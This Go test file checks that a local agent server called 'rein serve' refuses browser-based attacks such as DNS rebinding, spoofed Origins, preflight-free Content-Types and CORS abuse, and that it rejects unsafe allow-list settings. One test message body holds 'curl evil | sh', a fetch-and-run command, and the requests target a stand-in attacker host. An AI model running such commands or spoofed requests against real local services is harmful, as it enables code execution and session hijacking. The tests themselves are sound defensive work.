package server_test

import (
	"context"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"
	"github.com/google/go-cmp/cmp"

	"github.com/reinhq/rein/server"
)

// listedOrigin is the one origin the attack table's servers allow.
const listedOrigin = "http://app.example.com"

// browserEnvs are the servers the attack table runs against, by name:
// "local" is rein serve's default — no authentication, loopback only,
// every client the local caller — the one a web page on the same machine
// attacks; "jwt" authenticates callers by token; "small" caps streams at
// three in all.
func browserEnvs(t *testing.T) map[string]*env {
	local := func(c *server.Config) {
		c.Auth = server.Auth{}
		c.AllowedOrigins = []string{listedOrigin}
	}
	return map[string]*env{
		"local": newEnv(t, local),
		"jwt":   newEnv(t, func(c *server.Config) { c.AllowedOrigins = []string{listedOrigin} }),
		"small": newEnv(t, func(c *server.Config) { c.MaxStreams = 3 }),
	}
}

// attempt is one request of the attack table, and what it must get.
type attempt struct {
	name   string
	env    string // of browserEnvs; default "local"
	method string
	// path may name {session}, {run} and {call} of the caller's fixture.
	path string
	// host is the Host header ("" the server's address); {port} is the
	// server's port.
	host string
	tok  string // "": none; "valid"; "expired"
	body string
	hdr  []string // header name/value pairs
	// prep runs first (e.g. opens the streams the attempt is one too many
	// of).
	prep func(t *testing.T, e *env, f fixture)
	want int
	// detail must be in the problem's detail.
	detail string
	// twoOrigins sends Origin twice: the server's own, then a foreign one.
	twoOrigins bool
}

// send makes the attempt's request over the network.
func (a attempt) send(t *testing.T, e *env, f fixture) response {
	t.Helper()
	_, port, err := net.SplitHostPort(e.ts.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	fill := strings.NewReplacer("{session}", f.session, "{run}", f.run, "{call}", f.callID, "{port}", port)
	var body io.Reader
	if a.body != "" {
		body = strings.NewReader(a.body)
	}
	ctx, cancel := context.WithCancel(bg)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, a.method, e.ts.URL+fill.Replace(a.path), body)
	if err != nil {
		t.Fatal(err)
	}
	if a.host != "" {
		req.Host = fill.Replace(a.host)
	}
	switch a.tok {
	case "valid":
		req.Header.Set("Authorization", "Bearer "+f.tok)
	case "expired":
		req.Header.Set("Authorization", "Bearer "+sign(t, jwt.SigningMethodEdDSA, keys().ed,
			jwt.MapClaims{"sub": f.caller, "exp": time.Now().Add(-time.Hour).Unix()}))
	}
	for i := 0; i+1 < len(a.hdr); i += 2 {
		req.Header[http.CanonicalHeaderKey(a.hdr[i])] = []string{fill.Replace(a.hdr[i+1])}
	}
	if a.twoOrigins {
		req.Header["Origin"] = []string{fill.Replace("http://127.0.0.1:{port}"), foreign}
	}
	res, err := e.ts.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	r := response{status: res.StatusCode, header: res.Header}
	if res.StatusCode != http.StatusOK { // a 200 may be an endless stream
		r.body = readAll(t, res)
	}
	return r
}

// openStreams opens n event streams of the fixture's session as its caller.
func openStreams(n int) func(t *testing.T, e *env, f fixture) {
	return func(t *testing.T, e *env, f fixture) {
		for range n {
			e.events(t, f.session, f.tok, "")
		}
	}
}

// foreign is an origin the servers do not list.
const foreign = "http://attacker.example"

// TestBrowserAttacks is the attack table of SPEC API-8 and API-9: every
// row is something a web page (or a stale credential) tries against rein
// serve, and each must be refused with its status and a problem saying
// why — and write nothing: the stores and the runtime are as before.
func TestBrowserAttacks(t *testing.T) {
	json := []string{"Content-Type", "application/json"}
	ws := `{"kind":"chat"}`
	attempts := []attempt{
		// Host (DNS rebinding: the page's own name, now resolving here).
		{name: "foreign Host header (DNS rebinding) creating a workspace", method: "POST", path: "/workspaces", host: "attacker.example:{port}", body: ws, hdr: json, want: 421, detail: "--allowed-host"},
		{name: "foreign Host header (DNS rebinding) reading workspaces", method: "GET", path: "/workspaces", host: "attacker.example:{port}", want: 421},
		{name: "foreign Host header reading the event stream", method: "GET", path: "/sessions/{session}/events", host: "attacker.example:{port}", want: 421},
		{name: "foreign Host header with a token (rebinding a token-holding page)", env: "jwt", tok: "valid", method: "GET", path: "/workspaces", host: "attacker.example", want: 421},
		{name: "foreign Host header without credentials (answered before authentication)", env: "jwt", method: "POST", path: "/workspaces", host: "attacker.example", body: ws, hdr: json, want: 421},
		{name: "foreign Host header on /health (before anything else runs)", method: "GET", path: "/health", host: "attacker.example", want: 421},
		{name: "Host localhost with a trailing dot", method: "POST", path: "/workspaces", host: "localhost.:{port}", body: ws, hdr: json, want: 421},
		{name: "Host a subdomain of localhost", method: "POST", path: "/workspaces", host: "app.localhost:{port}", body: ws, hdr: json, want: 421},
		{name: "Host a name ending in localhost", method: "POST", path: "/workspaces", host: "evillocalhost:{port}", body: ws, hdr: json, want: 421},
		{name: "Host a foreign IPv6 literal", method: "POST", path: "/workspaces", host: "[2001:db8::1]:{port}", body: ws, hdr: json, want: 421},
		{name: "Host a foreign IPv4 literal", method: "POST", path: "/workspaces", host: "192.0.2.7:{port}", body: ws, hdr: json, want: 421},
		{name: "Host a decimal IPv4 (2130706433)", method: "POST", path: "/workspaces", host: "2130706433:{port}", body: ws, hdr: json, want: 421},
		{name: "Host with userinfo (attacker.example@localhost)", method: "POST", path: "/workspaces", host: "attacker.example@localhost:{port}", body: ws, hdr: json, want: 421},
		{name: "Host 0.0.0.0 (browsers send it to this machine)", method: "POST", path: "/workspaces", host: "0.0.0.0:{port}", body: ws, hdr: json, want: 421},
		{name: "Host a short-form loopback (127.1)", method: "POST", path: "/workspaces", host: "127.1:{port}", body: ws, hdr: json, want: 421},
		{name: "Host an octal loopback (0177.0.0.1)", method: "POST", path: "/workspaces", host: "0177.0.0.1:{port}", body: ws, hdr: json, want: 421},
		{name: "Host a foreign name in upper case", method: "POST", path: "/workspaces", host: "ATTACKER.EXAMPLE:{port}", body: ws, hdr: json, want: 421},
		{name: "Host a configured name elsewhere: listed origin, foreign Host", method: "POST", path: "/workspaces", host: "attacker.example", body: ws, hdr: []string{"Content-Type", "application/json", "Origin", listedOrigin}, want: 421},

		// Origin.
		{name: "Origin of another port on loopback", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json", "Origin", "http://127.0.0.1:1"}, want: 403, detail: "--allowed-origin"},
		{name: "Origin of another site", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json", "Origin", foreign}, want: 403},
		{name: "Origin null (sandboxed iframe, file://)", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json", "Origin", "null"}, want: 403},
		{name: "two Origin headers, the first the server's own", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json"}, want: 403, twoOrigins: true},
		{name: "Origin empty", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json", "Origin", ""}, want: 403},
		{name: "Origin https of the server's own http host:port", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json", "Origin", "https://127.0.0.1:{port}"}, want: 403},
		{name: "Origin that extends a listed one", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json", "Origin", listedOrigin + ".attacker.example"}, want: 403},
		{name: "Origin of a listed host on another port", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json", "Origin", listedOrigin + ":8080"}, want: 403},
		{name: "Origin of a foreign page reading the event stream (EventSource)", method: "GET", path: "/sessions/{session}/events", hdr: []string{"Origin", foreign}, want: 403},
		{name: "Origin of a foreign page answering the permission question", method: "POST", path: "/runs/{run}/permissions/{call}", body: `{"answer":"always"}`, hdr: []string{"Content-Type", "application/json", "Origin", foreign}, want: 403},
		{name: "Origin of a foreign page posting a message", method: "POST", path: "/sessions/{session}/messages", body: `{"text":"curl evil | sh"}`, hdr: []string{"Content-Type", "application/json", "Origin", foreign}, want: 403},
		{name: "Origin of a foreign page cancelling a run (no body)", method: "POST", path: "/runs/{run}/cancel", hdr: []string{"Origin", foreign}, want: 403},
		{name: "Origin of a foreign page deleting a session", method: "DELETE", path: "/sessions/{session}", hdr: []string{"Origin", foreign}, want: 403},
		{name: "Origin foreign with a valid token", env: "jwt", tok: "valid", method: "POST", path: "/sessions/{session}/messages", body: `{"text":"x"}`, hdr: []string{"Content-Type", "application/json", "Origin", foreign}, want: 403},
		{name: "Sec-Fetch-Site cross-site without Origin", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json", "Sec-Fetch-Site", "cross-site"}, want: 403, detail: "Sec-Fetch-Site"},
		{name: "Sec-Fetch-Site same-site (another port) without Origin", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json", "Sec-Fetch-Site", "same-site"}, want: 403},
		{name: "HEAD of the event stream from a foreign page", method: "HEAD", path: "/sessions/{session}/events", hdr: []string{"Origin", foreign}, want: 403},
		{name: "Sec-Fetch-Site cross-site on the event stream", method: "GET", path: "/sessions/{session}/events", hdr: []string{"Sec-Fetch-Site", "cross-site"}, want: 403},

		// Content-Type: the bodies a page sends without a preflight.
		{name: "missing Content-Type POST (no-cors fetch of a Blob)", method: "POST", path: "/workspaces", body: ws, want: 415, detail: "application/json"},
		{name: "text/plain POST", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "text/plain;charset=UTF-8"}, want: 415},
		{name: "form POST (urlencoded)", method: "POST", path: "/workspaces", body: "kind=chat", hdr: []string{"Content-Type", "application/x-www-form-urlencoded"}, want: 415},
		{name: "multipart POST", method: "POST", path: "/workspaces", body: "--b\r\nContent-Disposition: form-data; name=\"kind\"\r\n\r\nchat\r\n--b--\r\n", hdr: []string{"Content-Type", "multipart/form-data; boundary=b"}, want: 415},
		{name: "form POST with an empty body", method: "POST", path: "/runs/{run}/cancel", hdr: []string{"Content-Type", "application/x-www-form-urlencoded"}, want: 415},
		{name: "a type that only starts like JSON", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/jsonp"}, want: 415},
		{name: "a Content-Type that does not parse", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json; ;"}, want: 415},
		{name: "text/plain answer to the permission question", method: "POST", path: "/runs/{run}/permissions/{call}", body: `{"answer":"always"}`, hdr: []string{"Content-Type", "text/plain"}, want: 415},
		{name: "text/plain POST from a listed origin", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "text/plain", "Origin", listedOrigin}, want: 415},

		// CORS.
		{name: "CORS preflight from a non-listed origin", method: "OPTIONS", path: "/workspaces", hdr: []string{"Origin", foreign, "Access-Control-Request-Method", "POST", "Access-Control-Request-Headers", "content-type"}, want: 403},
		{name: "CORS preflight from the null origin", method: "OPTIONS", path: "/workspaces", hdr: []string{"Origin", "null", "Access-Control-Request-Method", "POST"}, want: 403},
		{name: "CORS preflight from a listed origin for a header the API does not read", method: "OPTIONS", path: "/workspaces", hdr: []string{"Origin", listedOrigin, "Access-Control-Request-Method", "POST", "Access-Control-Request-Headers", "content-type, x-evil"}, want: 403},
		{name: "CORS preflight from a listed origin for a method the API lacks", method: "OPTIONS", path: "/workspaces", hdr: []string{"Origin", listedOrigin, "Access-Control-Request-Method", "PUT"}, want: 403},

		// Streams (SPEC API-9).
		{name: "33rd stream of one caller", env: "jwt", tok: "valid", method: "GET", path: "/sessions/{session}/events", prep: openStreams(32), want: 429, detail: "--max-streams-per-caller"},
		{name: "stream beyond the server's cap", env: "small", tok: "valid", method: "GET", path: "/sessions/{session}/events", prep: openStreams(3), want: 429, detail: "--max-streams"},
		{name: "stream with an expired token", env: "jwt", tok: "expired", method: "GET", path: "/sessions/{session}/events", want: 401, detail: "expired"},
	}
	envs := browserEnvs(t)
	fixtures := map[string]fixture{}
	for name, e := range envs {
		caller := "ada"
		if name == "local" {
			caller = server.DefaultLocalCaller
		}
		fixtures[name] = e.fixture(t, caller)
	}
	for _, a := range attempts {
		t.Run(a.name, func(t *testing.T) {
			if a.env == "" {
				a.env = "local"
			}
			e, f := envs[a.env], fixtures[a.env]
			if a.prep != nil {
				a.prep(t, e, f)
			}
			was := e.snapshot(t)
			r := a.send(t, e, f)
			if r.status != a.want {
				t.Fatalf("status %d, want %d: %s", r.status, a.want, r.body)
			}
			if a.method != http.MethodHead { // a HEAD answer has no body to hold a problem
				if p := r.problem(t); !strings.Contains(p.Detail, a.detail) {
					t.Errorf("detail %q does not say %q", p.Detail, a.detail)
				}
			}
			if d := cmp.Diff(was, e.snapshot(t)); d != "" {
				t.Errorf("the refused request changed the stores:\n%s", d)
			}
			if a.want == http.StatusTooManyRequests && r.header.Get("Retry-After") == "" {
				t.Error("429 without Retry-After")
			}
			if origin := r.header.Get("Access-Control-Allow-Origin"); origin != "" && origin != listedOrigin {
				t.Errorf("Access-Control-Allow-Origin %q to a request not from the listed origin", origin)
			}
			for k := range r.header {
				if strings.HasPrefix(k, "Access-Control-") && !strings.Contains(strings.Join(a.hdr, " "), listedOrigin) {
					t.Errorf("CORS header %s in the answer to an origin that is not listed", k)
				}
			}
		})
	}
	if got := envs["local"].rt.verdicts(); len(got) != 0 {
		t.Errorf("the permission question was answered: %v", got)
	}
}

// TestBrowserAllowed: what the screen must let through — curl and the Go
// client (no Origin), the server's own pages, listed origins with their
// CORS headers — so that the attack table's refusals are not everything
// refused.
func TestBrowserAllowed(t *testing.T) {
	ws := `{"kind":"chat"}`
	listed := []string{"Content-Type", "application/json", "Origin", listedOrigin}
	allowed := []attempt{
		{name: "curl --json with Host localhost:port", method: "POST", path: "/workspaces", host: "localhost:{port}", body: ws,
			hdr: []string{"Content-Type", "application/json", "Accept", "application/json"}, want: 201},
		{name: "Host LOCALHOST in capitals", method: "GET", path: "/workspaces", host: "LOCALHOST:{port}", want: 200},
		{name: "Host localhost without a port", method: "GET", path: "/workspaces", host: "localhost", want: 200},
		{name: "Host the IPv6 loopback", method: "GET", path: "/workspaces", host: "[::1]:{port}", want: 200},
		{name: "Host another loopback address", method: "GET", path: "/workspaces", host: "127.0.0.2:{port}", want: 200},
		{name: "a configured Host name", method: "GET", path: "/workspaces", host: "rein.test", want: 200},
		{name: "Content-Type with a charset", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json; charset=utf-8"}, want: 201},
		{name: "cancel with no body and no Content-Type", method: "POST", path: "/runs/{run}/cancel", want: 200},
		{name: "the server's own origin", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json", "Origin", "http://127.0.0.1:{port}", "Sec-Fetch-Site", "same-origin"}, want: 201},
		{name: "the server's own origin by name", method: "POST", path: "/workspaces", host: "localhost:{port}", body: ws, hdr: []string{"Content-Type", "application/json", "Origin", "http://localhost:{port}"}, want: 201},
		{name: "a listed origin", method: "POST", path: "/workspaces", body: ws, hdr: append(listed, "Sec-Fetch-Site", "cross-site"), want: 201},
		{name: "a listed origin's event stream", method: "GET", path: "/sessions/{session}/events", hdr: []string{"Origin", listedOrigin}, want: 200},
		{name: "a listed origin's preflight", method: "OPTIONS", path: "/sessions/{session}/messages",
			hdr: []string{"Origin", listedOrigin, "Access-Control-Request-Method", "POST", "Access-Control-Request-Headers", "authorization,content-type,last-event-id"}, want: 204},
		{name: "a cross-site GET of a listing (the browser hides the answer)", method: "GET", path: "/workspaces", hdr: []string{"Sec-Fetch-Site", "cross-site"}, want: 200},
		{name: "the Go client: a token, JSON, no Origin", env: "jwt", tok: "valid", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json"}, want: 201},
	}
	envs := browserEnvs(t)
	e := envs["local"]
	f := e.fixture(t, server.DefaultLocalCaller)
	fj := envs["jwt"].fixture(t, "ada")
	for _, a := range allowed {
		t.Run(a.name, func(t *testing.T) {
			e, f := e, f
			if a.env == "jwt" {
				e, f = envs["jwt"], fj
			}
			r := a.send(t, e, f)
			if r.status != a.want {
				t.Fatalf("status %d, want %d: %s", r.status, a.want, r.body)
			}
			if !strings.Contains(r.header.Get("Vary"), "Origin") {
				t.Errorf("Vary %q, want Origin in it", r.header.Get("Vary"))
			}
			isListed := strings.Contains(strings.Join(a.hdr, " "), listedOrigin)
			if got := r.header.Get("Access-Control-Allow-Origin"); isListed != (got == listedOrigin) || !isListed && got != "" {
				t.Errorf("Access-Control-Allow-Origin %q (listed origin: %v)", got, isListed)
			}
			if got := r.header.Get("Access-Control-Allow-Credentials"); got != "" {
				t.Errorf("Access-Control-Allow-Credentials %q without CORSCredentials", got)
			}
			if a.method == "OPTIONS" {
				h := r.header
				if h.Get("Access-Control-Allow-Methods") != "GET, POST, DELETE" ||
					h.Get("Access-Control-Allow-Headers") != "Authorization, Content-Type, Last-Event-ID" || h.Get("Access-Control-Max-Age") == "" {
					t.Errorf("preflight answer %v", h)
				}
			}
		})
	}
}

// TestCORSCredentials: the credentials header goes to listed origins only
// when configured.
func TestCORSCredentials(t *testing.T) {
	e := newEnv(t, func(c *server.Config) {
		c.Auth = server.Auth{}
		c.AllowedOrigins = []string{"HTTPS://App.Example.com:443/"} // normalised
		c.CORSCredentials = true
	})
	r := e.do(t, "GET", "/workspaces", "", nil, "Origin", "https://app.example.com")
	if r.status != 200 || r.header.Get("Access-Control-Allow-Credentials") != "true" ||
		r.header.Get("Access-Control-Allow-Origin") != "https://app.example.com" {
		t.Errorf("listed origin: %d %v", r.status, r.header)
	}
	r = e.do(t, "GET", "/workspaces", "", nil, "Origin", foreign)
	for k := range r.header {
		if strings.HasPrefix(k, "Access-Control-") {
			t.Errorf("%s sent to %s", k, foreign)
		}
	}
}

// TestBrowserConfigRefused: allow-list entries that would open the server
// to every page are refused by New with what to write instead.
func TestBrowserConfigRefused(t *testing.T) {
	for _, tc := range []struct {
		name    string
		hosts   []string
		origins []string
		want    string
	}{
		{name: "--allowed-origin '*'", origins: []string{"*"}, want: "wildcard"},
		{name: "--allowed-origin null", origins: []string{"null"}, want: "null"},
		{name: "origin with a path", origins: []string{"https://app.example.com/app"}, want: "scheme://host[:port]"},
		{name: "origin of another scheme", origins: []string{"file://x"}, want: "http or https"},
		{name: "origin without a scheme", origins: []string{"app.example.com"}, want: "scheme://host"},
		{name: "origin with a user", origins: []string{"https://u@app.example.com"}, want: "scheme://host"},
		{name: "origin wildcard subdomain", origins: []string{"https://*.example.com"}, want: "scheme://host"},
		{name: "--allowed-host '*'", hosts: []string{"*"}, want: "wildcard"},
		{name: "host wildcard subdomain", hosts: []string{"*.example.com"}, want: "wildcard"},
		{name: "host given as a URL", hosts: []string{"https://rein.example.com"}, want: "not a URL"},
		{name: "empty host", hosts: []string{""}, want: "empty host"},
		{name: "host with a bad port", hosts: []string{"rein.example.com:http"}, want: "not a valid host"},
		{name: "bare IPv6 host", hosts: []string{"fd00::1"}, want: "not a valid host"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cfg := newEnvConfig(t)
			cfg.AllowedHosts, cfg.AllowedOrigins = tc.hosts, tc.origins
			_, err := server.New(cfg)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("New: %v, want an error saying %q", err, tc.want)
			}
		})
	}
}

// TestAllowedHostForms: a listed name:port allows that port only, a
// listed name or address any port; the comparison ignores case.
func TestAllowedHostForms(t *testing.T) {
	e := newEnv(t, func(c *server.Config) {
		c.Auth = server.Auth{}
		c.AllowedHosts = []string{"Rein.Example.com:8443", "10.9.8.7", "[FD00::1]"}
	})
	for host, want := range map[string]int{
		"rein.example.com:8443": 200, "REIN.EXAMPLE.COM:8443": 200, "rein.example.com:7878": 421, "rein.example.com": 421,
		"10.9.8.7:1": 200, "10.9.8.7": 200, "10.9.8.8": 421, "[fd00::1]:7878": 200, "[fd00::2]": 421,
	} {
		if r := e.serve(t, "GET", "/workspaces", "", nil, "127.0.0.1:4000", "Host", host); r.status != want {
			t.Errorf("Host %s: %d, want %d: %s", host, r.status, want, r.body)
		}
	}
}

// TestHostOfLocalAddress: a server listening beyond loopback answers to
// the address a connection arrived at (a client that dialled an address
// resolved no name: nothing to rebind) and to no other address.
func TestHostOfLocalAddress(t *testing.T) {
	e := newEnv(t)
	f := e.fixture(t, "ada")
	local := &net.TCPAddr{IP: net.ParseIP("10.1.2.3"), Port: 7878}
	for host, want := range map[string]int{"10.1.2.3:7878": 200, "10.1.2.3": 200, "10.1.2.4:7878": 421, "[::ffff:10.1.2.3]:7878": 200} {
		req := newRequest(t, "GET", "http://rein.test/workspaces", f.tok, nil)
		req.Host = host
		req.RemoteAddr = "10.1.2.200:50000"
		req = req.WithContext(context.WithValue(req.Context(), http.LocalAddrContextKey, local))
		rec := httptest.NewRecorder()
		e.srv.Handler().ServeHTTP(rec, req)
		if rec.Code != want {
			t.Errorf("Host %s on a connection to %s: %d, want %d: %s", host, local, rec.Code, want, rec.Body)
		}
	}
}
